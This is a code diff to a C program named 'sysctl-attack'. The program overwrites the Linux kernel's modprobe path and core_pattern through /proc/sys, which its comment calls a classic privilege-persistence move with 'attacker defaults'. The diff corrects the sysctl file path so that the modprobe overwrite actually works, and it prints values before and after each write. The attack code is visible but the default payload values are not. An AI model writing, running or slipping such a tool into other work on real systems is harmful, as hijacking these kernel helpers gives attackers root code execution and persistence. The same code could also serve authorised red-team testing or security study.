@@ -1,6 +1,7 @@
 /*
- * sysctl-attack: the classic privilege-persistence move of overwriting kernel.modprobe_path and
- * kernel.core_pattern through /proc/sys. Prints each value before and after.
+ * sysctl-attack: the classic privilege-persistence move of overwriting the kernel's modprobe_path
+ * (sysctl kernel.modprobe) and core_pattern (kernel.core_pattern) through /proc/sys. Prints each
+ * value before and after, named by the kernel variable.
  *   sysctl-attack                      both, with attacker defaults
  *   sysctl-attack modprobe_path VALUE  one of them, with a chosen value
  *   sysctl-attack core_pattern VALUE
@@ -10,9 +11,14 @@
 #include <string.h>
 #include <unistd.h>
 
+/* The sysctl file of each kernel variable: modprobe_path is exposed as kernel.modprobe. */
+static const char *sysctl_path(const char *name) {
+  return strcmp(name, "modprobe_path") == 0 ? "/proc/sys/kernel/modprobe" : "/proc/sys/kernel/core_pattern";
+}
+
 static int show(const char *name, const char *label) {
-  char path[64], value[256];
-  snprintf(path, sizeof path, "/proc/sys/kernel/%s", name);
+  const char *path = sysctl_path(name);
+  char value[256];
   int fd = open(path, O_RDONLY);
   if (fd < 0) return perror(path), -1;
   ssize_t n = read(fd, value, sizeof value - 1);
@@ -25,8 +31,7 @@ static int show(const char *name, const char *label) {
 }
 
 static int overwrite(const char *name, const char *value) {
-  char path[64];
-  snprintf(path, sizeof path, "/proc/sys/kernel/%s", name);
+  const char *path = sysctl_path(name);
   if (show(name, "BEFORE") != 0) return -1;
   int fd = open(path, O_WRONLY);
   if (fd < 0) return perror(path), -1;
